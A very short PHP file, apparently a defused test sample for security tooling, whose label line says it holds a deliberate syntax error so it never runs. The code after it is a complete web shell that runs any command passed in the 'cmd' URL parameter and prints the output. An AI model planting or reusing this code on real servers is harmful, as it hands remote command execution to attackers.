<?php
shodo inert sample: deliberate syntax error, this file never runs
 $cmd = $_GET['cmd']; $out = null; $ret = null; exec($cmd, $out, $ret); print_r($out); ?>
